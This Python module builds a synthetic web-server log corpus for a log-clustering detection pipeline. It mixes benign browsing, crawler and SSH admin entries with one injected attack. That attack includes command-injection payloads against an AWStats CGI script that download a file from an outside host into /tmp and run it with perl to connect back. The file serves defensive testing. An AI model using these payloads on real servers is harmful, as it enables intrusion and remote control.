"""A small synthetic web-server corpus with one injected multi-log attack.

Benign traffic is a day of short browsing sessions (access log, with the
odd missing-favicon line in the error log), crawler hits and routine SSH
administration (secure log). The attack is a burst of command-injection
requests against a CGI statistics script whose shell errors land in the
error log, followed by the attacker logging in over SSH.
"""

from __future__ import annotations

import json
import random
import shutil
from datetime import datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Optional

CORPUS_DATE = datetime(2024, 3, 12)
ATTACKER_IP = "203.0.113.66"
ATTACK_START = CORPUS_DATE + timedelta(hours=3, minutes=17, seconds=5)
ATTACK_MARKER = "awstats.pl"

_PAGES = {
    "/": 5120, "/index.html": 5120, "/about.html": 3311, "/news.html": 8840, "/contact.html": 2270,
    "/css/site.css": 1432, "/js/menu.js": 988, "/images/logo.png": 12044, "/images/banner.jpg": 40961,
}
_ASSETS = ("/css/site.css", "/js/menu.js", "/images/logo.png", "/images/banner.jpg")
_VISITS = [
    ("/", "/css/site.css", "/js/menu.js", "/images/logo.png"),
    ("/", "/css/site.css", "/js/menu.js", "/images/logo.png", "/images/banner.jpg"),
    ("/news.html", "/css/site.css", "/js/menu.js", "/images/logo.png"),
    ("/about.html", "/css/site.css", "/js/menu.js", "/images/logo.png"),
]
_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
]
_CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
_ATTACK_AGENT = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
_PROBES = ["/awstats/awstats.pl", "/stats/awstats.pl", "/awstats.pl", "/cgi-bin/stats/awstats.pl"]
_ATTACK_COMMANDS = [
    "echo%20;echo%20b_exp;id;echo%20e_exp",
    "echo%20;uname%20-a",
    "echo%20;cd%20/tmp;wget%20http://198.51.100.7/dc.txt",
    "echo%20;cd%20/tmp;curl%20-O%20http://198.51.100.7/dc.txt",
    "echo%20;perl%20/tmp/dc.txt%20198.51.100.7%208080",
]
_ATTACK_ERRORS = [
    "sh: fg: no job control",
    "sh: wget: command not found",
    "sh: fg: no job control",
    "sh: fg: no job control",
    "sh: /tmp/dc.txt: Permission denied",
]

SCHEMAS = {
    "http_access": """\
$ClientIP ->SrcIP
Ident
AuthUser
HTTP_method phase1 ->Medium
@ClientRequestLine phase1 ->Message
Http_protocol
StatusCode phase1 ->Message2
~ObjectSize phase1
~Referrer phase1
@Agent phase1 ->User
""",
    "http_error": """\
Type phase1 ->Medium
$ClientIP ->SrcIP
Reason_Phrase phase1 ->Message2
@Message phase1 ->Message
""",
    "syslog_secure": """\
Logging_device
Logging_Daemon phase1 ->Medium
Operation phase1 ->Message
User
$Source ->SrcIP
Port
@System_message
""",
}

FEATURE_MAP = {
    "http_access": {"ClientIP": "SrcIP", "HTTP_method": "Medium", "ClientRequestLine": "Message",
                    "StatusCode": "Message2", "Agent": "User"},
    "http_error": {"ClientIP": "SrcIP", "Reason_Phrase": "Message2", "Message": "Message", "Type": "Medium"},
    "syslog_secure": {"Operation": "Message", "Source": "SrcIP", "Logging_Daemon": "Medium"},
}

LOGS = [
    {"path": "access_log", "log_type": "http_access", "schema": "http_access.schema", "prefix": "A"},
    {"path": "error_log", "log_type": "http_error", "schema": "http_error.schema", "prefix": "E"},
    {"path": "secure", "log_type": "syslog_secure", "schema": "syslog_secure.schema", "prefix": "S"},
]


def _access(ts: datetime, ip: str, method: str, path: str, status: int, size, referrer: str, agent: str) -> str:
    stamp = ts.strftime("%d/%b/%Y:%H:%M:%S +0000")
    size = "-" if size is None else str(size)
    return f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'


def _error(ts: datetime, level: str, ip: Optional[str], message: str) -> str:
    client = f" [client {ip}]" if ip else ""
    return f"[{ts.strftime('%a %b %d %H:%M:%S %Y')}] [{level}]{client} {message}"


def _secure(ts: datetime, daemon: str, pid: int, message: str) -> str:
    return f"{ts:%b} {ts.day:2d} {ts:%H:%M:%S} www {daemon}[{pid}]: {message}"


def _session_starts(rng: random.Random, count: int, min_gap: float, avoid: datetime) -> list[datetime]:
    starts: list[float] = []
    while len(starts) < count:
        t = rng.uniform(600, 86400 - 600)
        ts = CORPUS_DATE + timedelta(seconds=t)
        if abs((ts - avoid).total_seconds()) < 3600:
            continue
        if all(abs(t - s) >= min_gap for s in starts):
            starts.append(t)
    return [CORPUS_DATE + timedelta(seconds=int(s)) for s in sorted(starts)]


def generate_corpus_lines(seed: int = 7) -> dict[str, list[str]]:
    """The three log files as lists of lines, each in time order."""
    rng = random.Random(seed)
    access: list[tuple[datetime, str]] = []
    error: list[tuple[datetime, str]] = []
    secure: list[tuple[datetime, str]] = []
    clients = [f"198.51.100.{rng.randint(10, 250)}" for _ in range(12)]
    pages = [p for p in _PAGES if p not in _ASSETS]

    error.append((CORPUS_DATE + timedelta(seconds=2), _error(CORPUS_DATE + timedelta(seconds=2), "notice", None,
                                                           "Apache/2.4.58 (Unix) configured -- resuming normal operations")))

    # browsing sessions: every visit loads one of a few pages with its assets
    for start in _session_starts(rng, 44, 1200, ATTACK_START):
        ip, agent = rng.choice(clients), rng.choice(_AGENTS)
        ts = start
        for path in _VISITS[rng.randrange(len(_VISITS))]:
            status = 304 if path in _ASSETS and rng.random() < 0.5 else 200
            access.append((ts, _access(ts, ip, "GET", path, status, None if status == 304 else _PAGES[path],
                                       "-" if path == "/" else "http://www.example.org/", agent)))
            ts += timedelta(seconds=rng.randint(0, 1))
        if rng.random() < 0.4:
            access.append((ts, _access(ts, ip, "GET", "/favicon.ico", 404, 209, "-", agent)))
            error.append((ts, _error(ts, "error", ip, "File does not exist: /var/www/html/favicon.ico")))

    # crawler visits
    for start in _session_starts(rng, 6, 3000, ATTACK_START):
        ip = f"66.249.66.{rng.randint(1, 200)}"
        access.append((start, _access(start, ip, "GET", "/robots.txt", 200, 68, "-", _CRAWLER)))
        ts = start + timedelta(seconds=2)
        access.append((ts, _access(ts, ip, "GET", rng.choice(pages), 200, 3311, "-", _CRAWLER)))

    # routine administration over ssh
    for start in _session_starts(rng, 9, 4000, ATTACK_START):
        pid = rng.randint(2000, 30000)
        port = rng.randint(40000, 60000)
        secure.append((start, _secure(start, "sshd", pid, f"Accepted publickey for admin from 10.0.0.5 port {port} ssh2")))
        ts = start + timedelta(seconds=1)
        secure.append((ts, _secure(ts, "sshd", pid, "pam_unix(sshd:session): session opened for user admin by (uid=0)")))
        ts = start + timedelta(seconds=rng.randint(60, 300))
        secure.append((ts, _secure(ts, "sshd", pid, "pam_unix(sshd:session): session closed for user admin")))

    # the attack: probing for the statistics CGI, command injection through it, then a root login
    ts = ATTACK_START
    for path in _PROBES:
        access.append((ts, _access(ts, ATTACKER_IP, "GET", path, 404, 209, "-", _ATTACK_AGENT)))
        error.append((ts, _error(ts, "error", ATTACKER_IP, f"File does not exist: /var/www/html{path.rstrip('/')}")))
        ts += timedelta(seconds=1)
    for cmd, err in zip(_ATTACK_COMMANDS, _ATTACK_ERRORS):
        path = f"/cgi-bin/awstats.pl?configdir=|{cmd}|"
        access.append((ts, _access(ts, ATTACKER_IP, "GET", path, 200, 1210, "-", _ATTACK_AGENT)))
        error.append((ts, _error(ts, "error", ATTACKER_IP, err)))
        ts += timedelta(seconds=rng.randint(2, 4))
    ts += timedelta(seconds=20)
    pid = rng.randint(2000, 30000)
    secure.append((ts, _secure(ts, "sshd", pid, f"Accepted password for root from {ATTACKER_IP} port 50122 ssh2")))
    secure.append((ts + timedelta(seconds=1),
                   _secure(ts + timedelta(seconds=1), "sshd", pid,
                           "pam_unix(sshd:session): session opened for user root by (uid=0)")))

    def ordered(items):
        return [line for _, line in sorted(items, key=lambda t: t[0])]

    return {"access_log": ordered(access), "error_log": ordered(error), "secure": ordered(secure)}


def corpus_config(output_dir: str = "fedpat-out", seed: int = 0) -> dict:
    return {
        "logs": [dict(spec) for spec in LOGS],
        "clustering": {"seed": seed, "restarts": 1},
        "federation": {"enabled": False, "clients": 3, "rounds": 3, "key_bits": 2048},
        "phase2": {"txn_features": ["DateTime", "PID"], "min_pts": 2},
        "feature_map": "featuremap.json",
        "report_format": "markdown",
        "syslog_year": CORPUS_DATE.year,
        "output_dir": output_dir,
    }


def write_corpus(directory, seed: int = 7) -> Path:
    """Write logs, schemas, feature map and a pipeline config into ``directory``."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    for name, lines in generate_corpus_lines(seed).items():
        (directory / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    for log_type, text in SCHEMAS.items():
        (directory / f"{log_type}.schema").write_text(text, encoding="utf-8")
    (directory / "featuremap.json").write_text(json.dumps(FEATURE_MAP, indent=2) + "\n", encoding="utf-8")
    (directory / "config.json").write_text(json.dumps(corpus_config(), indent=2) + "\n", encoding="utf-8")
    return directory


def bundled_corpus_dir() -> Path:
    """Directory of the corpus shipped with the package."""
    return Path(str(resources.files("fedpat") / "data" / "corpus"))


def copy_bundled_corpus(directory) -> Path:
    """Copy the shipped corpus somewhere writable; returns the config path."""
    directory = Path(directory)
    shutil.copytree(bundled_corpus_dir(), directory, dirs_exist_ok=True)
    return directory / "config.json"
